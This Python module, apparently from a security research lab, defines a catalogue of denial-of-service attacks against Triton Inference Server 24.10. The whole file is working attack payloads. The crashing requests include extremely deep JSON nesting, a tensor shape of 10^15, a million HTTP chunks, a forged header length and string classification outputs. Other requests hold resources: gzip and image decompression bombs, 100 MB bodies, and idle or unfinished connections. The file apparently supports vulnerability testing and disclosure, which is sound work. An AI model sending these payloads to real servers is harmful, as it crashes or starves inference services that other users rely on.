"""Every request known to crash a server of Triton 24.10 or to keep it from answering others."""

from __future__ import annotations

import gzip
import json
import struct
from dataclasses import dataclass

from tritonclient.grpc import service_pb2

from cronnx_lab.attack import costly_pictures
from cronnx_lab.fuzz.images import webp_of_one_colour
from cronnx_lab.fuzz.requests import GrpcRequest, HttpRequest, Payload, Request, over_grpc, over_http_binary
from cronnx_server.paths import PICTURES


@dataclass(frozen=True)
class Attack:
    """A request to send again and again, or connections to open and keep.

    Attributes:
        name: A short name, for tables.
        request: The request; None for connections that are kept.
        connections: How many connections to open each time.
        sent: What each of them sends before it falls silent.
    """

    name: str
    request: Request | None = None
    connections: int = 0
    sent: bytes = b""


def crashing(model_name: str, output_name: str) -> list[Attack]:
    """Requests that crash a server of Triton 24.10: SECURITY.md.

    Args:
        model_name: A model with an input `image`.
        output_name: One of its outputs of strings.
    """
    infer, generate = f"/v2/models/{model_name}/infer", f"/v2/models/{model_name}/generate"
    picture = Payload((PICTURES / "coffee.jpg").read_bytes())
    return [
        Attack("form of 5 MB", HttpRequest(generate, _json_of(5_000_000), _FORM)),
        Attack("classification of strings, HTTP", _classification(model_name, output_name, picture)),
        Attack("classification of strings, gRPC", _grpc_classification(model_name, output_name, picture)),
        Attack("shape of 10^15", HttpRequest(infer, json.dumps(_SHAPE).encode())),
        Attack("JSON 300,000 deep", HttpRequest(generate, b"[" * 300_000)),
        Attack("`data` 200,000 deep", HttpRequest(infer, _deep_data(200_000))),
        Attack("a million chunks", HttpRequest(generate, b"1\r\na\r\n" * 1_000_000 + b"0\r\n\r\n", _CHUNKED)),
        Attack("header length of 10^11", HttpRequest(infer, b"{}", {"Inference-Header-Content-Length": str(10**11)})),
    ]


def holding(model_name: str) -> list[Attack]:
    """Requests and connections that cost a server memory or time.

    Args:
        model_name: A model with an input `image`, which is a picture.
    """
    generate = f"/v2/models/{model_name}/generate"
    pictures = {
        "BMP of 4 KB": costly_pictures.bmp_of_runs(),
        "JPEG of 4 MB of Exif": costly_pictures.jpeg_of_segments(costly_pictures.exif_segment(), 200_000),
        "JPEG of 4 MB of comments": costly_pictures.jpeg_of_segments(b"\xff\xfe\0\2", 1_000_000),
        "GIF of 4 MB of comments": costly_pictures.gif_of_comments(800_000),
        "TIFF of a million tiles": costly_pictures.tiff_of_tiles(1000),
    }
    unfinished = f"POST {generate} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n" + '{"image": "'
    return [
        *(Attack(name, over_http_binary(model_name, Payload(picture))) for name, picture in pictures.items()),
        Attack("16 WebPs of 50 megapixels", _batch(model_name, [webp_of_one_colour(7071, 7071)] * 16)),
        Attack("gzip of 200 MB", HttpRequest(generate, gzip.compress(b" " * 200_000_000, 1), _GZIP)),
        Attack("body of 100 MB", HttpRequest(generate, _json_of(100_000_000))),
        Attack("path of 100,000 letters", HttpRequest(f"/v2/models/{'m' * 100_000}", method="GET")),
        Attack("60 idle connections", connections=60),
        Attack("20 unfinished bodies", connections=20, sent=unfinished.encode()),
    ]


_FORM = {"Content-Type": "application/x-www-form-urlencoded"}  # the default of curl for a body
_GZIP = {"Content-Encoding": "gzip"}
_CHUNKED = {"Transfer-Encoding": "chunked"}
_SHAPE = {"inputs": [{"name": "image", "datatype": "UINT8", "shape": [10**15], "data": []}]}


def _json_of(byte_count: int) -> bytes:
    return b'{"image": "' + b"A" * byte_count + b'"}'


def _deep_data(depth: int) -> bytes:
    data = b"[" * depth + b"]" * depth
    return b'{"inputs": [{"name": "image", "datatype": "BYTES", "shape": [1, 1], "data": ' + data + b"}]}"


def _classification(model_name: str, output_name: str, picture: Payload) -> HttpRequest:
    tensor = {"name": "image", "datatype": "BYTES", "shape": [1, 1], "data": [picture.text]}
    output = {"name": output_name, "parameters": {"classification": 3}}
    body = json.dumps({"inputs": [tensor], "outputs": [output]}).encode()
    return HttpRequest(f"/v2/models/{model_name}/infer", body)


def _grpc_classification(model_name: str, output_name: str, picture: Payload) -> GrpcRequest:
    message = service_pb2.ModelInferRequest.FromString(over_grpc(model_name, picture).message)
    message.outputs.add(name=output_name).parameters["classification"].int64_param = 3
    return GrpcRequest(message.SerializeToString())


def _batch(model_name: str, pictures: list[bytes]) -> GrpcRequest:
    content = b"".join(struct.pack("<I", len(each)) + each for each in pictures)
    shape = [len(pictures), 1]
    tensor = service_pb2.ModelInferRequest.InferInputTensor(name="image", datatype="BYTES", shape=shape)
    message = service_pb2.ModelInferRequest(model_name=model_name, inputs=[tensor], raw_input_contents=[content])
    return GrpcRequest(message.SerializeToString())
